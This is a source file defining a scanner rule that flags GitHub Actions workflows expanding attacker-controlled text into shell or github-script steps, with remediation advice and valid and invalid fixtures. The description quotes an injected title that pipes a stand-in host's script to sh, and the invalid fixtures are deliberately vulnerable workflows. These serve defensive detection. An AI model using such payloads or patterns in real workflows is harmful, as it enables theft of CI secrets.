import { defineRule, expressionsAt, parseUses } from "@tollgate/engine";
import { attackerControlledContexts } from "../../support/github-contexts.js";

export default defineRule({
  meta: {
    id: "gha-template-injection",
    title: "Attacker-controlled context expanded into a script",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description:
      "A `${{ }}` expression that reads text an outsider controls (an issue or pull request title or body, a comment, a branch name, a commit message…) is pasted into a shell script or an `actions/github-script` script before it runs. A title such as `\"; curl evil.sh | sh; echo \"` then runs with the job's token and secrets.",
    remediation:
      "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted in the script (`\"$TITLE\"`), or as `process.env.TITLE` in github-script.",
    precision: "high",
    cwe: ["CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "template-injection", "ci-untrusted-input"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"],
  },
  check(step, { report }) {
    const scriptPaths: Array<readonly (string | number)[]> = [["run"]];
    const uses = typeof step.attributes.uses === "string" ? parseUses(step.attributes.uses) : undefined;
    if (uses?.kind === "repository" && `${uses.owner}/${uses.repo}`.toLowerCase() === "actions/github-script") scriptPaths.push(["with", "script"]);
    for (const path of scriptPaths) {
      for (const { expression, range } of expressionsAt(step, path)) {
        for (const context of attackerControlledContexts(expression)) {
          report({ at: path, range, message: `${context} is expanded into the ${path.join(".")} script of ${step.name}: anyone who controls it can run code in this job` });
        }
      }
    }
  },
  examples: {
    valid: [
      {
        name: "value passed through the environment",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: echo "$TITLE"
      - run: echo "Run \${{ github.run_id }}"
`,
      },
    ],
    invalid: [
      {
        name: "issue title in a run block",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "Thanks"
          echo "\${{ github.event.issue.title }}"
`,
        errors: [{ line: 8, column: 17, messageIncludes: "github.event.issue.title" }],
      },
      {
        name: "pull request head ref in github-script",
        filename: ".github/workflows/pr.yml",
        code: `on: pull_request_target
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: console.log("\${{ github.event.pull_request.head.ref }}")
`,
        errors: [{ line: 8, column: 32, messageIncludes: "head.ref" }],
      },
    ],
  },
});
